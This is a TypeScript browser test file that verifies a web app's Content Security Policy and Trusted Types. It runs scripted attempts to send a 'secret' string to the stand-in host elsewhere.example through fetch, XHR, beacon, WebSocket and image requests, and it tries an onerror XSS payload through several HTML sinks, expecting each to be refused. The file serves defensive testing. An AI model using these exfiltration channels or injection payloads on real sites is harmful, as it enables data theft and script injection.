import { describe, expect } from 'vitest'
import { eventually } from '#journey/eventually.ts'
import { journey, WITH_WORKER } from '#journey/journey.ts'
import { SCREENS } from '#journey/screens.ts'
import { listPage } from '#page/list-page.ts'

const ELSEWHERE = 'https://elsewhere.example'

/** A script that tries every way to send something to another host, and tells what came of it. */
const SEND_AWAY = `(async () => {
  const breaches = []
  const note = ({ effectiveDirective, blockedURI }) => breaches.push(effectiveDirective + ' ' + blockedURI)
  document.addEventListener('securitypolicyviolation', note)
  const outcome = (begin) =>
    new Promise((resolve) => begin(() => resolve('sent'), () => resolve('refused')))
  const fetched = await outcome((sent, refused) =>
    fetch('${ELSEWHERE}/fetch', { method: 'POST', mode: 'no-cors', body: 'secret' }).then(sent, refused))
  const asked = await outcome((sent, refused) => {
    const request = new XMLHttpRequest()
    request.onload = sent
    request.onerror = refused
    request.open('POST', '${ELSEWHERE}/xhr')
    request.send('secret')
  })
  navigator.sendBeacon('${ELSEWHERE}/beacon', 'secret')
  const connected = await outcome((sent, refused) => {
    const socket = new WebSocket('wss://elsewhere.example/socket')
    socket.onopen = sent
    socket.onerror = refused
  })
  const picture = await outcome((sent, refused) => {
    const image = new Image()
    image.onload = sent
    image.onerror = refused
    image.src = '${ELSEWHERE}/picture.png?secret'
  })
  // the browser tells of a breach after it refused
  for (let looks = 0; breaches.length < 5 && looks < 1500; looks++) await new Promise((go) => setTimeout(go, 20))
  return { fetched, asked, connected, picture, breaches: breaches.toSorted() }
})()`

describe('a script in the app', () => {
  // proves 17.9
  journey('sends nothing to another host', async ({ visitor }) => {
    const { page } = await visitor({
      ...WITH_WORKER,
      expectedFaults: [/^policy: /, /Content Security Policy|violates|Failed to load|WebSocket/],
    })
    const asked: string[] = []
    await page.route(`${ELSEWHERE}/**`, async (route) => {
      asked.push(route.request().url())
      await route.fulfill({ body: '' })
    })
    await page.goto('/')
    expect(await page.evaluate(SEND_AWAY)).toEqual({
      fetched: 'refused',
      asked: 'refused',
      connected: 'refused',
      picture: 'refused',
      breaches: [
        `connect-src ${ELSEWHERE}/beacon`,
        `connect-src ${ELSEWHERE}/fetch`,
        `connect-src ${ELSEWHERE}/xhr`,
        'connect-src wss://elsewhere.example/socket',
        `img-src ${ELSEWHERE}/picture.png?secret`,
      ],
    })
    expect(asked).toEqual([])
  })
})

/** Strings that a script in the app tries to turn into markup, styles or scripts; what came of each. */
const MAKE_CODE = `(() => {
  const refused = (attempt) => {
    try {
      attempt()
      return 'done'
    } catch (error) {
      return error.name
    }
  }
  const place = document.body.appendChild(document.createElement('div'))
  const markup = '<img src="x" onerror="window.isTaken = true">'
  const script = document.createElement('script')
  const styled = document.createElement('div')
  styled.setAttribute('style', 'width: 1px')
  const style = document.head.appendChild(document.createElement('style'))
  style.textContent = 'body { width: 1px }'
  const outcomes = {
    innerHTML: refused(() => { place.innerHTML = markup }),
    plainText: refused(() => { place.innerHTML = 'no markup at all' }),
    insertAdjacentHTML: refused(() => place.insertAdjacentHTML('beforeend', markup)),
    fragment: refused(() => document.createRange().createContextualFragment(markup)),
    write: refused(() => document.write(markup)),
    parser: refused(() => new DOMParser().parseFromString(markup, 'text/html')),
    frame: refused(() => { document.createElement('iframe').srcdoc = markup }),
    script: refused(() => { script.src = '/assets/anything.js' }),
    text: refused(() => { script.textContent = 'window.isTaken = true' }),
    worker: refused(() => new Worker('/sw.js')),
    handler: refused(() => place.setAttribute('onclick', 'window.isTaken = true')),
    policy: refused(() => trustedTypes.createPolicy('default', { createHTML: (text) => text })),
    again: refused(() => trustedTypes.createPolicy('quan-drawing', { createHTML: (text) => text })),
  }
  return { outcomes, children: place.childNodes.length, width: styled.style.width, rules: style.sheet?.cssRules.length ?? 0 }
})()`

describe('a text in the app', () => {
  // proves 17.15
  journey('becomes neither markup nor script nor style, and nobody makes a policy beside ours', async ({ visitor }) => {
    const { page } = await visitor({
      ...WITH_WORKER,
      expectedFaults: [/^policy: (?:require-trusted-types-for|trusted-types|style-src|script-src)/, /violates|Trusted/],
    })
    await page.goto('/')
    await listPage(page).rows.first().waitFor()
    const refused = 'TypeError'
    expect(await page.evaluate(MAKE_CODE)).toEqual({
      outcomes: {
        innerHTML: refused,
        plainText: refused,
        insertAdjacentHTML: refused,
        fragment: refused,
        write: refused,
        parser: refused,
        frame: refused,
        script: refused,
        text: refused,
        worker: refused,
        handler: refused,
        policy: refused,
        again: refused,
      },
      children: 0,
      width: '',
      rules: 0,
    })
    // a drawing of ours came all the same
    await page.locator('[data-cover] svg').first().waitFor()
  })
})

/** Longest time for all screens one after another, in milliseconds. */
const MANY_SCREENS_MS = 120_000

/** Screens that show a failure have one; the last breach is our own. */
const FAULTS = [/Failed to load resource/, /require-trusted-types-for|TrustedHTML/]

describe('the policy of the pages', () => {
  // proves 17.15
  journey('is kept by every screen of a visitor', { timeout: MANY_SCREENS_MS }, async ({ visitor }) => {
    const { page: last, context } = await visitor({ expectedFaults: FAULTS })
    const breaches: string[] = []
    await context.exposeFunction('noteBreach', (breach: string) => breaches.push(breach))
    await context.addInitScript(
      `document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sample, sourceFile }) =>
        noteBreach([effectiveDirective, sample, sourceFile].join(' ')))`,
    )
    for (const [name, open] of Object.entries(SCREENS)) {
      const page = await context.newPage()
      await open(page)
      expect({ name, breaches }).toEqual({ name, breaches: [] })
      await page.close()
    }
    // the watch sees what is refused
    await last.goto('/pages/nowhere')
    await last.evaluate("document.createElement('div').innerHTML = '<b>'").catch(() => undefined)
    await eventually(() => breaches.length).toBe(1)
    expect(breaches[0]).toContain('require-trusted-types-for')
  })

  journey('lets the reference of the calls be read', async ({ visitor }) => {
    // the package tries whether it may make functions of texts and write styles without the nonce, and goes on without
    const refused = /^policy: (?:script-src eval|style-src-(?:elem|attr) inline)$/
    const { page } = await visitor({ expectedFaults: [refused, /^console: Applying inline style violates/] })
    await page.goto('/api/docs/')
    await page.getByRole('heading', { name: /Quan/ }).first().waitFor()
  })
})
